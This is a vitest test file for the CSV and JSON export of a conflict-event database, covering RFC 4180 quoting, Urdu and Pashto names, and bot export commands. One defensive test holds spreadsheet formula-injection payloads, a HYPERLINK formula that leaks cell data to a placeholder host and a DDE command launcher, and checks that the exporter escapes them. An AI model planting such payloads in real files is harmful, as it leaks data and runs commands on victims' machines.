import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { linkPending } from "../../src/incidents/pending.ts";
import { parse } from "csv-parse/sync";
import { closeDb, type Db } from "../../src/db/client.ts";
import * as t from "../../src/db/schema.ts";
import { csvField, toCsv } from "../../src/export/csv.ts";
import { collectEventRecords, EVENT_CSV_COLUMNS, eventsToCsv } from "../../src/export/events.ts";
import { CONSOLE_CONTEXT } from "../../src/console/repl.ts";
import { renderMessage } from "../../src/render/payload.ts";
import { routerFor, seededStore } from "../helpers/store.ts";

/** Text that breaks naive CSV writers: separators, quotes, line breaks of both kinds, RTL scripts. */
const HOSTILE_SUMMARY = 'Clash near "Zero Point", Torkham;\nshops closed,\r\ntraders said: ""enough"" — دکانیں بند ہیں، تاجروں نے کہا';
const URDU_PLACE = "طورخم، خیبر";
const PASHTO_ACTOR = "د پاکستان طالبان تحریک";

let db: Db;
let placeId: number;

beforeAll(() => {
  db = seededStore();
  placeId = db.insert(t.entities).values({ slug: "test-torkham-ur", kind: "place", subtype: "crossing", name: URDU_PLACE, lat: 34.1, lon: 71.09, origin: "test" }).returning({ id: t.entities.id }).get().id;
  const actor = db.insert(t.entities).values({ slug: "test-ttp-ps", kind: "organisation", name: PASHTO_ACTOR, origin: "test" }).returning({ id: t.entities.id }).get().id;
  const e1 = db
    .insert(t.events)
    .values({ externalId: "PAK98765", occurredOn: "2025-03-04", precision: "day", year: 2025, monthDay: "03-04", type: "clash", acledEventType: "Battles", acledSubEventType: "Armed clash", summary: HOSTILE_SUMMARY, placeId, killed: 2, injured: 5, casualtiesText: 'two, "maybe" three', source: "acled" })
    .returning({ id: t.events.id })
    .get().id;
  db.insert(t.eventActors).values({ eventId: e1, entityId: actor, role: "perpetrator" }).run();
  db.insert(t.eventSources).values({ eventId: e1, outlet: "ACLED", title: 'Weekly, "data"\nexport', url: "https://acleddata.com/?a=1,2" }).run();
  db.insert(t.events).values({ externalId: "tl-urdu-1", occurredOn: "2025-03", precision: "month", year: 2025, type: "statement", summary: "  leading and trailing spaces  ", placeId, source: "timeline" }).run();
  linkPending(db.$client, new Date("2026-01-01T00:00:00Z"));
});

afterAll(() => closeDb(db));

describe("CSV export (RFC 4180)", () => {
  it("round-trips events with commas, quotes, newlines and Urdu/Pashto names exactly through a CSV parser", () => {
    const { records } = collectEventRecords(db, { entityId: placeId });
    expect(records).toHaveLength(2);
    const csv = eventsToCsv(records);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    const rows = parse<Record<string, string>>(csv, { bom: true, columns: true, relax_quotes: false, trim: false });
    expect(Object.keys(rows[0] ?? {})).toEqual([...EVENT_CSV_COLUMNS]);
    expect(rows).toHaveLength(2);
    const acled = rows.find((r) => r["origin"] === "acled");
    expect(acled?.["summary"]).toBe(HOSTILE_SUMMARY);
    expect(acled?.["place"]).toBe(URDU_PLACE);
    expect(acled?.["actors"]).toBe(`${PASHTO_ACTOR} (perpetrator)`);
    expect(acled?.["acled_id"]).toBe("PAK98765");
    expect(acled?.["acled_event_type"]).toBe("Battles");
    expect(acled?.["casualties_text"]).toBe('two, "maybe" three');
    expect(acled?.["source_titles"]).toBe('Weekly, "data"\nexport');
    expect(acled?.["source_urls"]).toBe("https://acleddata.com/?a=1,2");
    expect([acled?.["killed"], acled?.["injured"], acled?.["lat"], acled?.["lon"]]).toEqual(["2", "5", "34.1", "71.09"]);
    const curated = rows.find((r) => r["origin"] === "timeline");
    expect(curated?.["summary"]).toBe("  leading and trailing spaces  ");
    expect(curated?.["acled_id"]).toBe("");
    expect(curated?.["external_id"]).toBe("tl-urdu-1");
    // Every cell, not only the ones checked above, equals what the writer was given.
    for (const r of records) {
      const row = rows.find((x) => x["id"] === String(r.id));
      expect(row?.["date"]).toBe(r.date);
      expect(row?.["summary"]).toBe(r.summary);
    }
  });

  it("round-trips arbitrary cells", () => {
    const cells = [["a,b", 'say "hi"', "line\nbreak", "cr\rlf\r\n", "پښتو", "", " x ", "plain"]];
    const parsed: string[][] = parse(toCsv(["1", "2", "3", "4", "5", "6", "7", "8"], cells), { bom: true });
    expect(parsed[1]).toEqual(cells[0]);
    expect(csvField(null)).toBe("");
    expect(csvField('a"b')).toBe('"a""b"');
  });

  it("keeps a spreadsheet from running text as a formula, and leaves numbers alone", () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+92 300 1234567", "-2+3", "\tTab", "\rCR"];
    const parsed: string[][] = parse(toCsv(["a", "b", "c", "d", "e", "f", "lon", "killed"], [[...hostile, -71.09, -0]]), { bom: true });
    expect(parsed[1]).toEqual([...hostile.map((h) => `'${h}`), "-71.09", "0"]);
    // Text that merely contains those characters is untouched.
    expect(csvField("Kunar, 11 January = accusation")).toBe('"Kunar, 11 January = accusation"');
    expect(csvField("a@b")).toBe("a@b");
  });

  it("/export attaches the CSV through the router, and JSON keeps the same rows", async () => {
    const router = routerFor(db);
    const csv = await router.handleCommand({ name: "export", options: { subject: String(placeId), format: "csv" }, ctx: CONSOLE_CONTEXT });
    const { payload, files } = renderMessage(csv.reply);
    expect(files).toHaveLength(1);
    expect(files[0]?.name).toMatch(/^events-test-torkham-ur\.csv$/);
    expect(payload.attachments?.[0]?.filename).toBe(files[0]?.name);
    const rows = parse<Record<string, string>>(files[0]?.data.toString("utf8") ?? "", { bom: true, columns: true });
    expect(rows.map((r) => r["summary"])).toContain(HOSTILE_SUMMARY);

    const json = await router.handleCommand({ name: "export", options: { subject: String(placeId), format: "json" }, ctx: CONSOLE_CONTEXT });
    const file = renderMessage(json.reply).files[0];
    const body = JSON.parse(file?.data.toString("utf8") ?? "{}") as { count: number; rows: { summary: string; acled_id: string | null; sources: { url: string }[] }[] };
    expect(body.count).toBe(2);
    expect(body.rows.find((r) => r.acled_id === "PAK98765")?.summary).toBe(HOSTILE_SUMMARY);
    expect(body.rows[0]?.sources[0]?.url).toBe("https://acleddata.com/?a=1,2");
  });

  it("/export of nothing says so politely, and /quote export:true attaches the quotes", async () => {
    const router = routerFor(db);
    const none = await router.handleCommand({ name: "export", options: { subject: String(placeId), from: "2019", to: "2019" }, ctx: CONSOLE_CONTEXT });
    expect(none.reply.ephemeral).toBe(true);
    expect(none.reply.files).toBeUndefined();
    const q = await router.handleCommand({ name: "quote", options: { export: true }, ctx: CONSOLE_CONTEXT });
    const file = renderMessage(q.reply).files[0];
    expect(file?.name).toBe("quotes.csv");
    const rows = parse<Record<string, string>>(file?.data.toString("utf8") ?? "", { bom: true, columns: true });
    expect(rows.length).toBeGreaterThan(3);
    expect(rows.some((r) => r["text"]?.includes("The existence of the state ensures the existence of politics"))).toBe(true);
    expect(rows.every((r) => r["article_slug"])).toBe(true);
  });
});
